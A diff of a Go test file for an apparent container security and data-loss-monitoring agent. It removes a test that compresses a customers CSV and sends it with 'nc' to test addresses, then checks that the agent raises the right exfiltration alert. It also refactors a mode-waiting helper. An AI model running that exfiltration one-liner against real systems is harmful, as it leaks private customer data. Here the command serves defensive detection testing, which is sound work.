@@ -8,30 +8,16 @@ import (
 	"net/http"
 	"os"
 	"path/filepath"
-	"slices"
 	"strings"
 	"testing"
 	"time"
 
 	"github.com/holdfast-project/holdfast/collector/view"
+	"github.com/holdfast-project/holdfast/rules/profile"
 	"github.com/holdfast-project/holdfast/tests/lab"
 	"github.com/holdfast-project/holdfast/tests/rig"
 	"github.com/holdfast-project/holdfast/tests/wait"
 )
-
-// leakPolicy lets a container contact one address.
-const leakPolicy = `apiVersion: holdfast.dev/v1alpha1
-kind: Profile
-metadata: {namespace: shop, kind: Pod, name: leak, container: app}
-modes: {egress: monitor}
-processes:
-  - path: '*'
-    egress:
-      - {cidr: 203.0.113.10/32, protocol: tcp, port: 80}
-`
-
-// leakScript packs a file and sends it to an address.
-const leakScript = `gzip -c /data/customers.csv >/tmp/c.gz; sleep 1; nc -w 5 %s 80 </tmp/c.gz; true`
 
 // writeFile puts a text into a new file.
 func writeFile(t *testing.T, text string) string {
@@ -41,73 +27,6 @@ func writeFile(t *testing.T, text string) string {
 		t.Fatal(err)
 	}
 	return path
-}
-
-// TestLabelledFileIsFollowed has a container read a labelled file, pack it and send it, first to an address that its profile
-// holds, then to another: one alert tells the second, in order, with the file and the bytes.
-func TestLabelledFileIsFollowed(t *testing.T) {
-	const held, foreign = "203.0.113.10", "203.0.113.9"
-	r := startRig(t, rig.Config{AgentArgs: []string{
-		"--dlp-mode", "monitor", "--policy-file", writeFile(t, leakPolicy),
-		"--dlp-labels", writeFile(t, customersLabel),
-	}})
-	webSink(t, r, held)
-	webSink(t, r, foreign)
-	image := attacker(t, r)
-	c := run(t, runPod(t, r, lab.PodConfig{Namespace: "shop", Name: "leak"}), lab.ContainerConfig{
-		Name: "app", Image: image.Name, Command: []string{"sleep", "100000"},
-		Mounts: []lab.Mount{{HostPath: customersDir(t, r), ContainerPath: filepath.Dir(customers), ReadOnly: true}},
-	})
-	if err := wait.For(t.Context(), time.Minute, func() error { return inMode(t, r, "shop/leak", "egress", "monitor") }); err != nil {
-		t.Fatal(err)
-	}
-	for _, to := range []string{held, foreign} {
-		if got, err := c.Exec(t.Context(), "/bin/sh", "-c", fmt.Sprintf(leakScript, to)); err != nil {
-			t.Fatalf("%v: %+v", err, got)
-		}
-	}
-	var told []view.Alert
-	err := wait.For(t.Context(), time.Minute, func() error {
-		told = nil
-		for _, rule := range []string{"Labelled data sent", "Labelled file in what is sent"} {
-			alerts, err := r.Alerts(t.Context(), "--rule", rule)
-			if err != nil {
-				return err
-			}
-			told = append(told, alerts...)
-		}
-		if len(told) == 0 {
-			return fmt.Errorf("no alert")
-		}
-		return nil
-	})
-	if err != nil {
-		t.Fatal(err)
-	}
-	for _, a := range told {
-		t.Log(a.Output)
-	}
-	a := told[0]
-	if len(told) != 1 || a.Rule != "Labelled data sent" || a.Finding == nil || a.Finding.File != customers || a.Finding.Bytes < 1000 || a.Finding.Reason != "archive-send" ||
-		a.Event.Network.RemoteAddress != foreign || a.Workload.Name != "leak" || a.Container.Name != "app" {
-		t.Errorf("%d alerts, the first: %+v, finding %+v", len(told), a, a.Finding)
-	}
-	inOrder(t, a.Output, "read by", "packed by", "sent to "+foreign)
-}
-
-// inMode checks that a signal of a workload has a mode.
-func inMode(t *testing.T, r *rig.Rig, pattern, signal, mode string) error {
-	t.Helper()
-	states, err := r.Workloads(t.Context(), pattern)
-	if err != nil {
-		return err
-	}
-	for _, w := range states {
-		if slices.ContainsFunc(w.Signals, func(s view.SignalState) bool { return s.Signal == signal && s.Mode == mode }) {
-			return nil
-		}
-	}
-	return fmt.Errorf("%s of %s is not in mode %s: %+v", signal, pattern, mode, states)
 }
 
 // victimPolicy lets a container run Python and nothing else.
@@ -145,9 +64,7 @@ func TestAttackThatWorkedIsTold(t *testing.T) {
 	if err := pod.AwaitPort(t.Context(), 8000); err != nil {
 		t.Fatal(err)
 	}
-	if err := wait.For(t.Context(), time.Minute, func() error { return inMode(t, r, "shop/victim", "process", "monitor") }); err != nil {
-		t.Fatal(err)
-	}
+	wait.Until(t, time.Minute, func() error { return r.InMode(t.Context(), "shop/victim", "monitor", profile.SignalProcess) })
 	client := &http.Client{Transport: &http.Transport{DialContext: r.Lab.DialContext, DisableKeepAlives: true}}
 	get := func(path string) {
 		t.Helper()
